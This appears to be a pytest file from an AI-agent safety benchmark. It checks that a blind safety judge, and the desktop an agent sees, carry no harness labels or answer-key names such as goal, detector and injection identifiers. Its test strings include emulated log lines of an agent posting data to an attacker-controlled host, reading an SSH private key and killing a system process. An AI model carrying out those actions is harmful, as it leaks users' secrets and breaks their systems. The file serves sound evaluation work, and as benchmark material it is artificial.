"""A blind judge: what the judge reads for every sample's unsafe replay holds the instruction,
the agent's own messages and actions, and a neutral account of the final desktop, and none of
the labels, goal names or attacker flags the harness knows. Runs on the bare-clone set and,
with the mirror, on all 150 tasks (under upstream's prompts too)."""

import ast
import re
from pathlib import Path

import pytest
import yaml

from trustbench.environments import desktop
from trustbench.environments.desktop import describe_state
from trustbench.judges.safety import TRUSTBENCH_JUDGE_PROMPT
from trustbench.tasks.os_harm import rules
from trustbench.tasks.os_harm.prompts import upstream_prompts
from trustbench.tasks.os_harm.reference_models import play, trajectory
from trustbench.tasks.os_harm.rules.goals import DETECTORS
from trustbench.tasks.os_harm.rules.misbehavior import PREDICATES
from trustbench.tasks.os_harm.rules.misuse import ARTIFACTS

LABELS = (
    "ATTACKER",
    "[CRITICAL",
    "CRITICAL SYSTEM",
    "sensitive files",
    "emulat",
    "recorded (not run)",
    "not executed",
    "[judged by",
    "injection goal",
    "stand-in",
    "benchmark",
    "marker",
    "malicious",
    "payload",
    "trustbench",
    "sandbox",
)
"""What the harness writes that a real screen never shows."""
FIXTURES_DIR = Path(rules.__file__).parent.parent / "fixtures"
DEVELOPER_NOTES = {"manifest.yaml"}
"""Fixture files that describe the others for developers; nothing in them reaches a screen."""
LOG_ONLY = {"__init__.py", "sandbox.py", "cgroups.py", "seccomp.py", "tools.py"}
"""Emulator modules whose strings go to the log or the code, never to a screen: exports, the
sandbox's reasons for refusing, the store's keys. Every other module's strings can be shown."""
RULES_DIR = Path(rules.__file__).parent
FINDINGS = {
    name
    for source in RULES_DIR.glob("*.py")
    for name in re.findall(r"Finding\(\s*\"(\w+)\"", source.read_text())
}
IDENTIFIERS = (
    *DETECTORS,
    *PREDICATES,
    *ARTIFACTS,
    *FINDINGS,
    "thunderbird_mail_received",
    "thunderbird_mail_draft",
    "desktop_notification",
)
"""Goal, task, vector and rule-finding names: the answer key."""


def judge_messages(sample, prompts):
    view = play(sample.metadata, trajectory(sample.metadata, "unsafe"))
    steps = [s.for_judge() for s in view.steps]
    final = describe_state(view.final, view.initial)
    return [p.user_message(sample.input, steps, final).replace(sample.input, "") for p in prompts]


def leaks(text: str) -> list[str]:
    found = [label for label in LABELS if label.lower() in text.lower()]
    found += [
        name for name in IDENTIFIERS if re.search(rf"(?<![\w-]){re.escape(name)}(?![\w-])", text)
    ]
    return found


def test_the_judge_input_carries_no_answer_key(samples, request):
    prompts = [TRUSTBENCH_JUDGE_PROMPT]
    if "full" in request.node.callspec.id:
        prompts.append(upstream_prompts(str(request.getfixturevalue("upstream_mirror"))).judge)
    found = {
        s.id: hits for s in samples for text in judge_messages(s, prompts) if (hits := leaks(text))
    }
    assert found == {}
    assert len(samples) in (30, 150)


@pytest.mark.parametrize(
    "text",
    [
        "  curl POST https://agent-help.com/x -> 200 [ATTACKER-CONTROLLED] data: k=v",
        "  process killed: gnome-shell (pid 9) [CRITICAL SYSTEM PROCESS]",
        "Following the stop_task notice.",
        "  sensitive files read: /home/user/.ssh/id_rsa",
    ],
)
def test_the_check_would_see_a_label(text):
    assert leaks(text)


def strings_of(value) -> list[str]:
    """Every string of a YAML document; keys too, save schema fields and fixture ids."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [
            s
            for k, v in value.items()
            for s in ([] if re.fullmatch(r"[a-z_]+", str(k)) else strings_of(k)) + strings_of(v)
        ]
    if isinstance(value, list):
        return [s for v in value for s in strings_of(v)]
    return []


def test_no_fixture_text_names_the_harness():
    """Every string the fixtures put on the desktop (pages, scripts, mail, documents)."""
    files = sorted(p for p in FIXTURES_DIR.glob("*.yaml") if p.name not in DEVELOPER_NOTES)
    assert len(files) >= 8
    found = {
        (path.name, text[:80]): hits
        for path in files
        for text in strings_of(yaml.safe_load(path.read_text()))
        if (hits := leaks(text))
    }
    assert found == {}


def shown_strings(path: Path) -> list[str]:
    """A module's string constants, less its docstrings."""
    tree = ast.parse(path.read_text())
    docstrings = {
        id(node.value)
        for node in ast.walk(tree)
        if isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant)
    }
    return [
        node.value
        for node in ast.walk(tree)
        if isinstance(node, ast.Constant)
        and isinstance(node.value, str)
        and id(node) not in docstrings
    ]


def test_no_observation_the_emulator_can_produce_names_the_harness():
    """Every string constant of the emulator's modules (messages, prompts, screens, command
    output) is something an observation can carry."""
    root = Path(desktop.__file__).parent
    modules = sorted(p for p in root.rglob("*.py") if p.name not in LOG_ONLY)
    assert len(modules) > 20
    found = {
        (str(path.relative_to(root)), text[:80]): hits
        for path in modules
        for text in shown_strings(path)
        if (hits := [label for label in LABELS if label.lower() in text.lower()])
    }
    assert found == {}
